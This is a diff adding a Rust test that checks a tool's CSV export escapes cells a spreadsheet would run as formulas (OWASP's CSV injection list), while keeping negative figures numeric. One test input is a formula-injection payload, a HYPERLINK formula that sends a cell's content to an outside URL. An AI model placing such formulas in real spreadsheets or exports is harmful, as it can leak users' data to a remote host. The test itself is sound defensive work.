@@ -1596,3 +1596,44 @@ fn messages_escape_what_they_quote() {
     assert!(err.contains(&format!("frame {escaped}-2.json: refused")), "{err}");
     let _ = fs::remove_dir_all(&dir);
 }
+
+/// A CSV text cell that a spreadsheet would run as a formula (starting
+/// with `=`, `+`, `-`, `@`, tab or carriage return: OWASP's CSV injection
+/// list) starts with a `'`; figures, negative ones too, stay numbers.
+#[test]
+fn csv_text_cells_never_start_a_formula() {
+    let real: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(fixtures().join(READ_ERROR)).unwrap()).unwrap();
+    let dir = scratch("csv-formula");
+    for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+        let mut v = real.clone();
+        mutate(&mut v, text, -1.5, 7);
+        let p = dir.join("doc.json");
+        fs::write(&p, v.to_string()).unwrap();
+        let out = ok(&["csv", p.to_str().unwrap()]);
+        let mut r = ::csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(out.as_bytes());
+        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
+        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
+        assert!(!rows.is_empty(), "{text:?}");
+        let mut figures = 0;
+        for row in &rows {
+            for (h, cell) in header.iter().zip(row.iter()) {
+                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    assert!(cell.parse::<f64>().is_ok(), "{text:?}: {h} = {cell:?} is no number");
+                }
+            }
+            let col = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
+            assert_eq!(col("target"), format!("'{text}"), "{text:?}");
+            assert_eq!(col("test"), format!("'{text}"), "{text:?}");
+            assert_eq!(col("file"), p.display().to_string());
+            if !col("read_bytes_per_sec").is_empty() {
+                assert_eq!(col("read_bytes_per_sec"), "-1.5", "a figure stays a number");
+                figures += 1;
+            }
+        }
+        assert!(figures > 0, "{text:?}: a row with a figure");
+    }
+    let _ = fs::remove_dir_all(&dir);
+}
